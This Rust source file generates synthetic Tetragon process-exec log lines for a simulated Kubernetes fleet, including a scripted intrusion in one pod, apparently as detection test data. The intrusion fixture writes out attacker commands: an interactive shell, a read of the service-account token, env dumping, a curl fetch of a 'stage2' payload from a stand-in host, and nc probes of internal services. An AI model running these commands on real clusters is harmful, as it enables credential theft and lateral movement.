//! What runs in the pods of a fleet, as lines of a Tetragon export file: the containers' own programs, probes that
//! come every few minutes, and in the shops what was typed into the stolen pod.

use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use hindcast_model::{Timestamp, list};

use super::chance::Chance;
use super::json::{push, rfc3339};
use super::{Fleet, Pod, Recipe, Shape, Workload, shops};

/// How far apart the probes of one pod are.
const PROBE_EVERY: Duration = Duration::from_secs(600);
const PROBE_TAKES: Duration = Duration::from_millis(18);

/// One program that ran.
#[derive(Clone, Debug)]
struct Execution {
    start: Timestamp,
    /// Its end and exit status, where it ended.
    end: Option<(Timestamp, u32)>,
    binary: &'static str,
    arguments: String,
    pid: u64,
    parent_pid: u64,
    parent_binary: &'static str,
}

/// The events of one recipe: every line in order of time, each with its newline.
#[must_use]
pub fn lines(recipe: &Recipe, fleet: &Fleet) -> Vec<(Timestamp, String)> {
    let mut chance = Chance::new(recipe.seed ^ 0x65_7865_6373);
    let mut lines = Vec::new();
    for (index, workload) in fleet.workloads.iter().enumerate() {
        for (slot_number, slot) in workload.slots.iter().enumerate() {
            for (position, pod) in slot.pods.iter().enumerate() {
                let until = slot.pods.get(position + 1).map_or(recipe.end(), |next| next.since);
                let mut executions = life(&mut chance, workload, pod, until);
                if recipe.shape == Shape::Shops && index == shops::stolen() && slot_number == shops::STOLEN_SLOT {
                    executions.extend(intrusion(&mut chance, recipe, workload, pod, until));
                }
                for execution in &executions {
                    write_execution(fleet, workload, pod, execution, &mut lines);
                }
            }
        }
    }
    lines.sort_by_key(|(time, _)| *time);
    lines
}

/// A container's program from start to end, and the probes of it.
fn life(chance: &mut Chance, workload: &Workload, pod: &Pod, until: Timestamp) -> Vec<Execution> {
    let main = 1000 + chance.below(60_000);
    let mut executions = vec![Execution {
        start: pod.since,
        end: None,
        binary: workload.binary,
        arguments: format!("--name {}", workload.name),
        pid: main,
        parent_pid: 1,
        parent_binary: "/usr/bin/containerd-shim-runc-v2",
    }];
    let offset = Duration::from_millis(chance.below(600_000));
    let first = pod.since.saturating_add(offset);
    let probes = std::iter::successors(Some(first), |time| Some(time.saturating_add(PROBE_EVERY)));
    executions.extend(probes.take_while(|time| *time < until).map(|start| Execution {
        start,
        end: Some((start.saturating_add(PROBE_TAKES), 0)),
        binary: "/bin/grpc_health_probe",
        arguments: "-addr=:8080".to_owned(),
        pid: 70_000 + chance.below(900_000),
        parent_pid: main,
        parent_binary: workload.binary,
    }));
    executions
}

/// A shell in the stolen pod, and what was typed into it; nothing where the pod was not up during the incident.
fn intrusion(chance: &mut Chance, recipe: &Recipe, workload: &Workload, pod: &Pod, until: Timestamp) -> Vec<Execution> {
    let (from, _) = shops::incident(recipe);
    if from < pod.since || until <= from {
        return Vec::new();
    }
    let shell = 70_000 + chance.below(900_000);
    let typed: [(&'static str, &str, u32); 6] = [
        ("/usr/bin/id", "", 0),
        ("/usr/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", 0),
        ("/usr/bin/env", "", 0),
        ("/usr/bin/curl", "-m 5 http://192.0.2.66:4444/stage2", 28),
        ("/usr/bin/nc", "-vz postgres 5432", 1),
        ("/usr/bin/nc", "-vz payments 22", 1),
    ];
    let after = |seconds: u64| from.saturating_add(Duration::from_secs(seconds));
    let commands = typed.into_iter().zip(1_u64..).map(|((binary, arguments, status), number)| Execution {
        start: after(30 * number),
        end: Some((after(30 * number + 5), status)),
        binary,
        arguments: arguments.to_owned(),
        pid: shell + number,
        parent_pid: shell,
        parent_binary: "/bin/sh",
    });
    let opened = Execution {
        start: after(10),
        end: Some((after(600), 0)),
        binary: "/bin/sh",
        arguments: "-i".to_owned(),
        pid: shell,
        parent_pid: 1,
        parent_binary: workload.binary,
    };
    std::iter::once(opened).chain(commands).collect()
}

fn write_execution(
    fleet: &Fleet,
    workload: &Workload,
    pod: &Pod,
    execution: &Execution,
    lines: &mut Vec<(Timestamp, String)>,
) {
    let node = fleet.node_name(pod.node);
    let exec_id = |pid: u64, start: Timestamp| BASE64.encode(format!("{node}:{}:{pid}", start.as_nanos()));
    let (id, parent_id) = (exec_id(execution.pid, execution.start), exec_id(execution.parent_pid, pod.since));
    let process = process_json(workload, pod, execution, &id, &parent_id);
    let parent = format!(
        r#"{{"exec_id":"{parent_id}","pid":{},"binary":"{}","start_time":"{}"}}"#,
        execution.parent_pid,
        execution.parent_binary,
        rfc3339(pod.since)
    );
    let mut line = |kind: &str, time: Timestamp, more: &str| {
        let stamp = rfc3339(time);
        lines.push((
            time,
            format!(
                "{{\"{kind}\":{{\"process\":{process},\"parent\":{parent}{more}}},\"node_name\":\"{node}\",\
                 \"time\":\"{stamp}\",\"cluster_name\":\"{}\"}}\n",
                fleet.cluster
            ),
        ));
    };
    line("process_exec", execution.start, "");
    if let Some((end, status)) = execution.end {
        let status = if status == 0 { String::new() } else { format!(r#","status":{status}"#) };
        line("process_exit", end, &format!(r#"{status},"time":"{}""#, rfc3339(end)));
    }
}

fn process_json(workload: &Workload, pod: &Pod, execution: &Execution, id: &str, parent_id: &str) -> String {
    let mut json = Vec::new();
    push(
        &mut json,
        format_args!(
            r#"{{"exec_id":"{id}","pid":{pid},"uid":1000,"cwd":"/","binary":"{}","arguments":"{}","flags":"execve clone","start_time":"{}","auid":4294967295,"pod":{{"namespace":"{}","name":"{}","container":{{"id":"containerd://{:032x}","name":"{}","image":{{"name":"registry.test/{}:1"}}}},"pod_labels":{{"#,
            execution.binary,
            execution.arguments,
            rfc3339(execution.start),
            workload.namespace,
            pod.name,
            u128::from(pod.endpoint_id) << 64 | u128::from(pod.since.as_nanos().unsigned_abs()),
            workload.name,
            workload.name,
            pid = execution.pid,
        ),
    );
    let labels = list::split(&workload.labels).filter_map(|label| {
        let (key, value) = label.strip_prefix("k8s:")?.split_once('=')?;
        (!key.starts_with("io.")).then(|| format!(r#""{key}":"{value}""#))
    });
    let labels: Vec<String> = labels.collect();
    push(
        &mut json,
        format_args!(
            r#"{}}},"workload":"{}","workload_kind":"{}"}},"parent_exec_id":"{parent_id}","tid":{}}}"#,
            labels.join(","),
            workload.name,
            workload.kind,
            execution.pid
        ),
    );
    String::from_utf8(json).unwrap_or_default()
}
